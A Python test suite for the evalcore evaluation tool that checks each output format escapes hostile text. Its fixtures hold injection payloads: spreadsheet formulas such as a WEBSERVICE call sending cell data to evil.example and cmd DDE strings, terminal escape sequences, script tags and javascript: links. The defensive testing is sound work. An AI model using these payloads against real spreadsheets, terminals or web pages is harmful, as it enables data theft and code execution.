"""Every output format is safe for any text (issue #7): no crash, no escape sequence reaching a
terminal, no formula in a spreadsheet, no extra Markdown cell and no raw HTML, and no number
changed by the caller's decimal context or by the working directory."""

from __future__ import annotations

import csv
import decimal
import io
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import EXAMPLES
from hypothesis import given
from hypothesis import strategies as st

import evalcore
from evalcore.cli import main
from evalcore.explain import explain
from evalcore.safetext import visible
from evalcore_builtin.formats import _width, _wrap, guard_formula

try:
    import openpyxl
except ImportError:  # the optional extra
    openpyxl = None

TEXT_FORMATS = ["table", "markdown", "csv", "json", "html"]
FORMATS = TEXT_FORMATS + (["xlsx"] if openpyxl is not None else [])
needs_openpyxl = pytest.mark.skipif(openpyxl is None, reason="the optional openpyxl is not installed")
GANZHOU = EXAMPLES / "ganzhou-2021" / "project.toml"
# What no output may carry raw: C0 controls but TAB, LF, CR; DEL; C1.
UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FIELDS = ("project", "department", "implementer", "goal_expected", "goal_achieved", "scheme",
          "name", "target", "actual", "reason", "other_name", "other_reason", "budget_reason",
          "source")
FORMULAS = ["=1+1", '=WEBSERVICE("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1"]


# -- building projects and reading outputs -------------------------------------------------------

def evaluation(*, _retried: bool = False, **texts: str) -> evalcore.Evaluation:
    """A project with a qualitative row, a quantitative row and a budget with a fund source;
    each of its texts is ``texts[field]``, or a plain default. A target or actual value the
    qualitative rule cannot read (empty, with a number) is replaced by one it can."""
    t = {field: f"[{field}]" for field in FIELDS} | {"target": "按期完成"} | texts
    scheme = evalcore.Scheme(t["scheme"], (
        evalcore.Indicator("q", t["name"], "quality", Decimal(60), t["target"], rule="qualitative"),
        evalcore.Indicator("n", t["other_name"], "quantity", Decimal(30), "≥10"),
    ), budget_points=Decimal(10))
    info = evalcore.ProjectInfo(t["project"], t["department"], t["implementer"], 2021,
                                t["goal_expected"], t["goal_achieved"])
    budget = evalcore.Budget(Decimal(500), Decimal("492.99135"), "万元", Decimal(500),
                             (evalcore.FundSource(t["source"], Decimal(500)),), t["budget_reason"])
    actuals = {"q": evalcore.Actual(t["actual"], t["reason"], assessed=Decimal(40)),
               "n": evalcore.Actual("8", t["other_reason"])}
    try:
        return evalcore.evaluate(evalcore.Project(info, scheme, budget, actuals))
    except evalcore.EvalcoreError:
        if _retried:
            raise
        return evaluation(_retried=True, **(texts | {"target": "按期完成",
                                                     "actual": "情况说明：" + t["actual"]}))


def toml_string(text: str) -> str:
    """``text`` as a TOML basic string: quotes, backslashes and control characters escaped."""
    return '"' + "".join(f"\\u{ord(c):04x}" if c in '"\\' or ord(c) < 0x20 or ord(c) == 0x7f
                         else c for c in text) + '"'


def project_file(folder: Path, *, name: str = "项目", goal: str = "目标", row: str = "指标",
                 reason: str = "原因") -> Path:
    """A project file whose project name, goal, row name and reason are the given texts."""
    path = folder / "project.toml"
    path.write_text(f"""
[project]
name = {toml_string(name)}
profile = "national-2020"
[goal]
expected = {toml_string(goal)}
achieved = {toml_string(goal)}
[budget]
unit = "万元"
planned = 500
executed = 492.99135
points = 10
reason = {toml_string(reason)}
[[indicator]]
id = "t"
category = "时效指标"
name = {toml_string(row)}
target = "按期完成"
actual = "未按期完成"
reason = {toml_string(reason)}
points = 90
""", encoding="utf-8")
    return path


def cli(*args: str, capsys: pytest.CaptureFixture[str]) -> str:
    """Run ``evalcore`` in-process; it must succeed. Returns stdout."""
    status = main(list(args))
    captured = capsys.readouterr()
    assert status == 0, captured.err
    return captured.out


def xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    """Every non-empty cell of a workbook: its value and its data type (``f`` is a formula)."""
    assert openpyxl is not None
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def split_markdown_row(line: str) -> list[str]:
    """A table row's cells as GitHub splits them: at every ``|`` not escaped by a backslash
    (after ``\\\\``, an escaped backslash, the ``|`` splits)."""
    cells, current, escaped = [], "", False
    for ch in line:
        if escaped:
            current, escaped = current + ch, False
        elif ch == "\\":
            current, escaped = current + ch, True
        elif ch == "|":
            cells.append(current)
            current = ""
        else:
            current += ch
    cells.append(current)
    assert cells[0] == "" and cells[-1].strip() == "", line
    return cells[1:-1]


def markdown_tables(text: str) -> list[list[list[str]]]:
    """The rows (as cells) of each table of a Markdown page: a block of lines starting ``|``."""
    tables: list[list[list[str]]] = []
    previous = ""
    for line in text.split("\n"):
        if line.startswith("|"):
            if not previous.startswith("|"):
                tables.append([])
            tables[-1].append(split_markdown_row(line))
        previous = line
    return tables


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def check_safe(output: str | bytes, fmt: str, e: evalcore.Evaluation) -> None:
    """What every output of ``e`` in ``fmt`` must be, whatever its texts."""
    if fmt == "xlsx":
        assert isinstance(output, bytes)
        cells = xlsx_cells(output)
        assert not [c for c in cells if c[1] in ("f", "e")]  # no formula, no error value
        assert not [v for v, _ in cells if isinstance(v, str) and UNSAFE.search(v)]
        return
    assert isinstance(output, str)
    assert not UNSAFE.search(output), fmt
    output.encode("utf-8")  # no lone surrogate: it can be written to a file or a terminal
    if fmt == "json":
        assert evalcore.Evaluation.from_json(output) == e  # the exact text, escaped as JSON
    elif fmt == "table":
        assert "\r" not in output and "\t" not in output
    elif fmt == "markdown":
        assert "<" not in output.replace("<br>", "")  # no raw HTML
        for table in markdown_tables(output):
            assert {len(row) for row in table} == {len(table[0])}, table
    elif fmt == "csv":
        rows = csv_rows(output)
        assert {len(row) for row in rows} == {11}
        for row in rows[1:]:
            for cell in row:
                assert guard_formula(cell) == cell or cell.startswith("'"), row
    elif fmt == "html":
        assert "<script" not in output


# -- any text, every format ----------------------------------------------------------------------

SPECIAL = st.sampled_from([
    "\n", "\r\n", "\r", "\t", "\x1b[2J", "\x1b]0;owned\x07", "\x9b31m", "\x00", "\x7f", "\x85",
    "\u2028", "\ufffe", "|", "\\|", "\\", "<script>alert(1)</script>", "<br>", "&lt;b&gt;",
    "[x](javascript:alert(1))", "![](http://evil.example/t.png)", "# h", "1. ", "- ", "*", "_",
    "`", "1,000", "1,000.5", "False", "True", "1E3", "2.50", "-1.5", "#N/A", "中文", "\u0301",
    *FORMULAS])
TEXT = st.lists(st.one_of(st.text(st.characters(exclude_categories=("Cs",)), max_size=8), SPECIAL),
                max_size=4).map("".join)


@given(st.fixed_dictionaries({field: TEXT for field in FIELDS}))
def test_every_format_renders_any_text_safely(texts):
    e = evaluation(**texts)
    for fmt in FORMATS:
        check_safe(evalcore.render(e, fmt), fmt, e)


@given(st.text(st.characters(exclude_categories=("Cs", "Cc"))), st.integers(2, 40))
def test_folding_keeps_every_character_and_fits_the_width(text, width):
    folded = _wrap(text, width)
    assert folded.replace(" ", "").replace("\n", "") == text.replace(" ", "").replace("\n", "")
    assert all(_width(line) <= width for line in folded.split("\n"))


# -- 1. a lone newline, and other cells tabulate took for numbers ---------------------------------

@pytest.mark.parametrize("fmt", FORMATS)
def test_a_goal_of_a_lone_newline_renders_in_every_format(fmt):
    e = evaluation(goal_expected="\n", goal_achieved="\n")
    check_safe(evalcore.render(e, fmt), fmt, e)


@pytest.mark.parametrize("text", ["\n", "1,000", "1,000.5", "\x1b[31m", "\x1b[31m\n"])
def test_the_terminal_table_folds_any_cell_through_the_cli(tmp_path, capsys, text):
    path = project_file(tmp_path, goal=text, reason=text)
    out = cli("evaluate", str(path), capsys=capsys)
    assert "\x1b" not in out and "预期目标" in out


def test_the_terminal_table_shows_what_was_written_not_a_number_read_from_it():
    e = evaluation(goal_expected="1E3", goal_achieved="2.50", reason="False", other_reason="1,000")
    for fmt in ("table", "markdown"):
        out = evalcore.render(e, fmt)
        assert isinstance(out, str)
        for text in ("1E3", "2.50", "False", "1,000"):
            assert re.search(rf"\b{re.escape(text)}\s", out), (fmt, text)
        assert "1000" not in out and "True" not in out


# -- 2 and 5. control characters: a visible escape, in every format ------------------------------

def test_visible_escapes_controls_and_keeps_line_breaks_and_tabs():
    assert visible("a\x1b[2Jb\x00\x7f\x9b\ufffe\ud800") == "a\\x1b[2Jb\\x00\\x7f\\x9b\\ufffe\\ud800"
    assert visible("a\tb\nc\r\nd 中文\u2028") == "a\tb\nc\r\nd 中文\u2028"


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv", "html"])
def test_an_escape_sequence_never_reaches_the_output(fmt):
    e = evaluation(project="\x1b]0;owned\x07", name="\x1b[2J清屏", reason="a\x9b31mb\x00")
    out = evalcore.render(e, fmt)
    assert isinstance(out, str)
    assert not UNSAFE.search(out)
    if fmt == "markdown":  # the same, written in Markdown: \\ is a backslash, \[ a [
        assert "\\\\x1b\\[2J清屏" in out and "a\\\\x9b31mb\\\\x00" in out
    else:
        assert "\\x1b[2J清屏" in out and "a\\x9b31mb\\x00" in out


def test_json_keeps_the_exact_text_as_json_escapes():
    e = evaluation(name="\x1b[2J\x7f\x85", reason="\ud800")
    out = evalcore.render(e, "json")
    assert isinstance(out, str) and not UNSAFE.search(out)
    assert "\\u001b[2J\\u007f\\u0085" in out and "\\ud800" in out
    assert evalcore.Evaluation.from_json(out) == e


def test_a_carriage_return_cannot_overwrite_a_terminal_line():
    e = evaluation(name="得分 100\r得分 0", reason="x\r\ny")
    out = evalcore.render(e, "table")
    assert isinstance(out, str) and "\r" not in out
    lines = explain(e, "q")
    assert "\r" not in lines and "得分 0" in lines


def test_explain_shows_control_characters_as_escapes(tmp_path, capsys):
    path = project_file(tmp_path, row="\x1b[2J指标", reason="\x07原因")
    out = cli("explain", str(path), "t", capsys=capsys)
    assert not UNSAFE.search(out) and "\\x1b[2J指标" in out and "\\x07原因" in out


@needs_openpyxl
def test_xlsx_accepts_control_characters_and_shows_them_as_in_the_table(tmp_path, capsys):
    e = evaluation(project="a\x01b", name="\x1b[1m粗体", reason="\x00")
    values = [v for v, _ in xlsx_cells(evalcore.render(e, "xlsx"))]
    assert {"a\\x01b", "\\x1b[1m粗体", "\\x00"} <= set(values)
    path = project_file(tmp_path, name="a\x01b", row="\x1b[1m粗体")
    cli("evaluate", str(path), "-f", "xlsx", "-o", str(tmp_path / "out.xlsx"), capsys=capsys)
    values = [v for v, _ in xlsx_cells((tmp_path / "out.xlsx").read_bytes())]
    assert "a\\x01b" in values


def test_html_shows_control_characters_as_escapes():
    out = evalcore.render(evaluation(name="\x1b[2J<b>x</b>\x00"), "html")
    assert isinstance(out, str) and "\\x1b[2J&lt;b&gt;x&lt;/b&gt;\\x00" in out


# -- 3. formulas: never run by a spreadsheet -----------------------------------------------------

@needs_openpyxl
@pytest.mark.parametrize("text", [*FORMULAS, "#N/A", "#DIV/0!"])
def test_xlsx_writes_every_text_as_text_never_a_formula(text):
    e = evaluation(project=text, name=text, reason=text, goal_expected=text)
    cells = xlsx_cells(evalcore.render(e, "xlsx"))
    # openpyxl keeps a CR when it writes with lxml (installed with python-docx, the extra
    # 'word'); without lxml its XML reads a CR back as LF.
    from openpyxl.xml import LXML
    assert (text if LXML else text.replace("\r", "\n"), "s") in cells
    assert not [c for c in cells if c[1] in ("f", "e")]


@needs_openpyxl
def test_xlsx_through_the_cli_has_no_formula(tmp_path, capsys):
    path = project_file(tmp_path, name="=WEBSERVICE(\"http://evil.example\")", row="=1+1")
    out = tmp_path / "out.xlsx"
    cli("evaluate", str(path), "-f", "xlsx", "-o", str(out), capsys=capsys)
    cells = xlsx_cells(out.read_bytes())
    assert ("=1+1", "s") in cells and not [c for c in cells if c[1] == "f"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_guards_a_text_cell_a_spreadsheet_would_run(text):
    out = evalcore.render(evaluation(name=text, reason=text), "csv")
    assert isinstance(out, str)
    row = next(r for r in csv_rows(out) if r[0] == "q")
    assert row[3] == row[10] == "'" + text.replace("\r", "\n")


def test_csv_guards_the_actual_value_and_the_explanation():
    out = evalcore.render(evaluation(actual="=x", target="@目标"), "csv")
    row = next(r for r in csv_rows(str(out)) if r[0] == "q")
    assert (row[4], row[5]) == ("'@目标", "'=x")
    assert guard_formula("-3%，扣2分") == "'-3%，扣2分"  # an explanation a rule begins with a sign


@pytest.mark.parametrize("number", ["-1E+3", "+.5", " -1 "])
def test_a_plain_number_is_not_guarded(number):
    assert guard_formula(number) == number


@pytest.mark.parametrize("number", ["-1.5", "+2", "-3%", "-1,000.5", "98.6%"])
def test_csv_leaves_a_plain_number_a_number(number):
    assert guard_formula(number) == number
    out = evalcore.render(evaluation(actual=number), "csv")
    assert isinstance(out, str)
    assert next(r for r in csv_rows(out) if r[0] == "q")[5] == number


def test_csv_keeps_the_number_columns_and_guards_only_text():
    rows = csv_rows(str(evalcore.render(evaluation(), "csv")))
    budget = next(r for r in rows if r[0] == "budget")
    assert budget[5:8] == ["98.6%", "10", "9.86"]
    assert guard_formula("-") == "'-" and guard_formula("目标-1") == "目标-1"


def test_the_csv_guard_can_be_turned_off(tmp_path, capsys):
    path = project_file(tmp_path, row="=1+1", reason="@SUM(A1)")
    guarded = csv_rows(cli("evaluate", str(path), "-f", "csv", capsys=capsys))
    raw = csv_rows(cli("evaluate", str(path), "-f", "csv", "--no-csv-guard", capsys=capsys))
    guarded, raw = ([r for r in rows if r[0] not in ("budget", "total") and
                     not r[0].startswith("funds_")] for rows in (guarded, raw))
    assert guarded[1][3] == "'=1+1" and guarded[1][10] == "'@SUM(A1)"
    assert raw[1][3] == "=1+1" and raw[1][10] == "@SUM(A1)"
    # The guard is the csv format's option: asking another format for it is an error, not ignored.
    assert main(["evaluate", str(path), "--no-csv-guard"]) == 2
    assert "the table format has no parameter 'guard'" in capsys.readouterr().err


# -- 4. Markdown: a row keeps its cells, no raw HTML ---------------------------------------------

@pytest.mark.parametrize("text", ["a|b", "a\\|b", "a\\\\|b", "|", "a\nb|c", "a\r\nb", "<script>x</script>",
                                  "x<br>y", "`a|b`"])
def test_markdown_rows_keep_their_cells(text):
    out = evalcore.render(evaluation(name=text, reason=text, goal_expected=text, project=text),
                          "markdown")
    assert isinstance(out, str)
    tables = markdown_tables(out)
    # header, funds, goal and indicator tables: their widths, and their lines (a line break in a
    # cell must not continue the row on a line of its own)
    assert [(len(t[0]), len(t)) for t in tables] == [(2, 6), (7, 4), (2, 4), (8, 5)]
    for table in tables:
        assert {len(row) for row in table} == {len(table[0])}
    assert "<" not in out.replace("<br>", "")


def test_markdown_shows_a_line_break_as_br_and_escapes_html():
    out = evalcore.render(evaluation(reason="第一行\n第二行 <script>alert(1)</script> a|b<br>"),
                          "markdown")
    assert "第一行<br>第二行 &lt;script&gt;alert(1)&lt;/script&gt; a\\|b&lt;br&gt;" in str(out)


def test_markdown_list_items_cannot_become_headings_or_links():
    e = evaluation(name="# 标题", actual="x", reason="y")  # a row that lost points: a list item
    out = str(evalcore.render(e, "markdown"))
    assert "\n- \\# 标题" in out
    out = str(evalcore.render(evaluation(name="![](http://evil.example/t.png)"), "markdown"))
    assert "](" not in out.replace("\\](", "")


def test_markdown_through_the_cli(tmp_path, capsys):
    path = project_file(tmp_path, name="a|b", goal="<img src=x onerror=alert(1)>", row="x\ny",
                        reason="\\|")
    out = cli("evaluate", str(path), "-f", "markdown", capsys=capsys)
    for table in markdown_tables(out):
        assert {len(row) for row in table} == {len(table[0])}
    assert "<img" not in out and "x<br>y" in out


# -- 6. the caller's decimal context changes nothing ---------------------------------------------

@contextmanager
def hostile_context() -> Iterator[None]:
    """A caller's context that would change every number evalcore formats in it."""
    hostile = decimal.Context(prec=3, rounding=decimal.ROUND_DOWN,
                              traps=[decimal.Inexact, decimal.Rounded, decimal.InvalidOperation])
    with decimal.localcontext(hostile):
        yield


def comparable(output: str | bytes, fmt: str) -> object:
    """The output, or for xlsx (whose file holds its creation time) its cells."""
    return xlsx_cells(output) if fmt == "xlsx" else output


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_is_the_same_in_a_hostile_decimal_context(fmt):
    for e in (evalcore.evaluate(evalcore.load_project(GANZHOU)), evaluation()):
        expected = comparable(evalcore.render(e, fmt), fmt)
        with hostile_context():
            assert comparable(evalcore.render(e, fmt), fmt) == expected
            assert "98.6%" in str(expected) or fmt in ("json", "xlsx")


def test_explain_is_the_same_in_a_hostile_decimal_context():
    e = evalcore.evaluate(evalcore.load_project(GANZHOU))
    expected = [explain(e, key) for key in ("budget", "t2")]
    with hostile_context():
        assert [explain(e, key) for key in ("budget", "t2")] == expected


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_the_cli_is_the_same_in_a_hostile_decimal_context(capsys, fmt):
    expected = cli("evaluate", str(GANZHOU), "-f", fmt, capsys=capsys)
    with hostile_context():
        assert cli("evaluate", str(GANZHOU), "-f", fmt, capsys=capsys) == expected


# -- 7. the output does not depend on the working directory --------------------------------------

@contextmanager
def working_directory(path: Path) -> Iterator[None]:
    before = Path.cwd()
    os.chdir(path)
    try:
        yield
    finally:
        os.chdir(before)


def outputs_by_path(folder: Path, name: str, capsys: pytest.CaptureFixture[str]) -> list[str]:
    """The text formats of ``folder/name``, named relatively (from ``folder``) and absolutely."""
    with working_directory(folder):
        relative = [cli("evaluate", name, "-f", fmt, capsys=capsys) for fmt in TEXT_FORMATS]
    absolute = [cli("evaluate", str(folder / name), "-f", fmt, capsys=capsys) for fmt in TEXT_FORMATS]
    return relative + absolute


def test_the_output_does_not_depend_on_how_the_file_was_named(capsys):
    outputs = outputs_by_path(GANZHOU.parent, GANZHOU.name, capsys)
    assert outputs[:len(TEXT_FORMATS)] == outputs[len(TEXT_FORMATS):]


def test_a_scheme_warning_does_not_depend_on_how_the_file_was_named(tmp_path, capsys):
    path = project_file(tmp_path)  # its points add up to 100, but not as the profile weighs them
    outputs = outputs_by_path(tmp_path, path.name, capsys)
    assert "方案提示" in outputs[0]
    assert outputs[:len(TEXT_FORMATS)] == outputs[len(TEXT_FORMATS):]
